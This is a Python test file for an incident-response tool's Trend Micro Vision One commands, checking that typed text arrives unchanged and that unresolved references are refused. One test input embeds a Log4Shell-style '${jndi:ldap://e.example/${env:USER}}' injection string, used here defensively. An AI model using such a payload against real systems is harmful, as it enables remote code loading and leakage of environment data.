"""Text is text: what a person typed into a War Room is what Vision One was asked for, to the letter."""

from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl

import pytest
import pytest_asyncio

from tests.packs.visionone.live_pack import LAPTOP
from tests.packs.visionone.theatre import Theatre, set_stage
from visionone_sim.recorder import SeenRequest
from visionone_sim.testing import RunningTwin, start_twin
from warroom.cli.shell_line import quoted
from warroom.context.interpolate import to_the_letter
from warroom.host.runner import WarmRunner
from warroom.model.context import ContextPatch, PatchKind
from warroom.model.errors import InvalidInputError
from warroom.model.incident import Incident
from warroom.model.plan import PlanState
from warroom.testing.samples import an_actor, some_changes

pytestmark = pytest.mark.asyncio(loop_scope="module")

PREFIX = "!trendmicro-visionone-"
# What looks like a reference, a quote, an escape or a variable, and is none.
TEXT = r"""a ${jndi:ldap://e.example/${env:USER}} ${env:TEMP}\x "q" 'p' `b` ${} ${x y} ${ $x %TEMP% \\srv\s\ ${1}"""
WINDOWS = r"${env:TEMP}\${x y}\it's a.dmp"
URL = "https://cdn.example.com/${x:-y}/${jndi:a}?q=%24{z}&r='s'"
MESSAGE = "<${env:SECRET}.1@mail.example>"
# Each command that takes text, its arguments, and the one whose value is looked for.
TYPED: dict[str, tuple[str, dict[str, str]]] = {
    "isolate-endpoint": ("description", {"endpoint": LAPTOP, "description": TEXT}),
    "collect-forensic-file": ("file_path", {"endpoint": LAPTOP, "file_path": WINDOWS}),
    "terminate-process": ("description", {"endpoint": LAPTOP, "file_sha1": "1" * 40, "description": TEXT}),
    "start-malware-scan": ("description", {"endpoint": LAPTOP, "description": TEXT}),
    "run-custom-script": ("parameter", {"endpoint": LAPTOP, "filename": "x.ps1", "parameter": TEXT}),
    "quarantine-email-message": ("message_id", {"message_id": MESSAGE, "mailbox": "a@b.example"}),
    "delete-email-message": ("message_id", {"message_id": MESSAGE, "mailbox": "a@b.example"}),
    "restore-email-message": ("message_id", {"message_id": MESSAGE, "mailbox": "a@b.example"}),
    "disable-user-account": ("account_name", {"account_name": "${env:USER}"}),
    "enable-user-account": ("description", {"account_name": "dnovak", "description": TEXT}),
    "force-signout": ("account_name", {"account_name": "CORP\\${x y}"}),
    "force-password-reset": ("description", {"account_name": "dnovak", "description": TEXT}),
    "add-to-block-list": ("target_value", {"value_type": "url", "target_value": URL}),
    "remove-from-block-list": ("object_value", {"object_type": "url", "object_value": URL}),
    "add-objects-to-exception-list": ("description", {"object_value": "a.example", "description": TEXT}),
    "add-objects-to-suspicious-list": ("object_value", {"object_type": "url", "object_value": URL}),
    "submit-urls-to-sandbox": ("urls", {"urls": URL}),
    "add-note": ("content", {"workbench_id": "ALERT", "content": TEXT}),
    "add-custom-script": (
        "script_contents",
        {"filename": "a.sh", "filetype": "bash", "script_contents": f"{TEXT}\nrm ${{x%%/}} ${{y[@]}}\n"},
    ),
}
# A value with a reference in it that is meant as text: the person is told how to write it.
REFERENCES = {
    "add-to-block-list": ("target_value", {"value_type": "url", "target_value": "https://cdn.example.com/${x}"}),
    "collect-forensic-file": ("file_path", {"endpoint": LAPTOP, "file_path": r"${TEMP}\x.dmp"}),
    "quarantine-email-message": ("message_id", {"message_id": "<${Nothing.here}@e.example>", "mailbox": "a@b.example"}),
    "add-note": ("content", {"workbench_id": "ALERT", "content": "It ran ${HOME}/x."}),
}


@pytest.fixture(scope="module")
def twin() -> Iterator[RunningTwin]:
    with start_twin() as twin:
        yield twin


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def theatre(twin: RunningTwin, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Theatre]:
    folder: Path = tmp_path_factory.mktemp("stage")
    runner = WarmRunner(folder / "scratch")
    theatre = await set_stage(folder, twin, runner)
    yield theatre
    await theatre.app.conductor.close()
    await runner.close()


async def typed(theatre: Theatre, command: str, args: dict[str, str]) -> tuple[PlanState, list[SeenRequest]]:
    """Type a command on the playground; gives how it ended and what the twin was asked to do."""
    alert = next(iter(theatre.twin.tenant.alerts))
    incident = await theatre.app.war_room.playground(an_actor())
    before = len(theatre.twin.requests)
    words = (f"{name}={quoted(value.replace('ALERT', alert))}" for name, value in args.items())
    plan = await theatre.app.war_room.run(f"{PREFIX}{command} {' '.join(words)}", incident, an_actor())
    played = await theatre.play(incident, plan.id)
    return played.plan.state, [seen for seen in list(theatre.twin.requests)[before:] if seen.method != "GET"]


def texts_of(seen: SeenRequest) -> list[str]:
    """Every text that a request named: in its body, as JSON or as a form, and in its query."""
    body = seen.body or ""
    found = [body.replace("\r\n", "\n"), *(value for _, value in parse_qsl(seen.query))]
    waiting: list[Any] = list(seen.targets)
    while waiting:
        value = waiting.pop()
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict | list):
            waiting += value.values() if isinstance(value, dict) else value
    return found


@pytest.mark.parametrize("command", TYPED)
async def test_text_arrives_to_the_letter(theatre: Theatre, command: str) -> None:
    name, args = TYPED[command]

    _, requests = await typed(theatre, command, args)

    assert any(args[name] in text for seen in requests for text in texts_of(seen))


@pytest.mark.parametrize("command", REFERENCES)
async def test_a_reference_to_nothing_asks_for_nothing_and_says_how_text_is_written(
    theatre: Theatre, command: str
) -> None:
    name, args = REFERENCES[command]

    state, requests = await typed(theatre, command, args)
    _, told = await typed(theatre, command, {**args, name: to_the_letter(args[name])})

    assert (state, requests) == (PlanState.FAILED, [])
    assert any(args[name] in text for seen in told for text in texts_of(seen))


async def test_what_is_in_the_context_is_no_instruction(theatre: Theatre) -> None:
    """A mail's Message-ID names a secret of the context: the mail itself is asked for, and the secret stays."""
    incident: Incident = await theatre.app.war_room.playground(an_actor())
    for path, value in (("Secret", "hunter2"), ("Mail", {"ID": "<${Secret}@e.example>"})):
        patch = ContextPatch(incident=incident.id, kind=PatchKind.SET, path=path, value=value)
        await theatre.app.journal.commit(some_changes(patches=[patch]))

    _, requests = await typed(
        theatre, "quarantine-email-message", {"message_id": "${Mail.ID}", "mailbox": "a@b.example"}
    )

    assert [target["messageId"] for seen in requests for target in seen.targets] == ["<${Secret}@e.example>"]


@pytest.mark.parametrize("text", ['[{"endpoint": "${x}"}]', "[{"])
async def test_json_with_a_reference_to_nothing_is_refused_as_a_whole(theatre: Theatre, text: str) -> None:
    state, requests = await typed(theatre, "isolate-endpoint", {"endpoint_identifiers": text})
    assert (state, requests) == (PlanState.FAILED, [])


async def test_an_argument_that_is_none_is_refused_before_anything_is_asked(theatre: Theatre) -> None:
    with pytest.raises(InvalidInputError, match="Did you mean 'endpoint'"):
        await typed(theatre, "isolate-endpoint", {"endpont": LAPTOP})
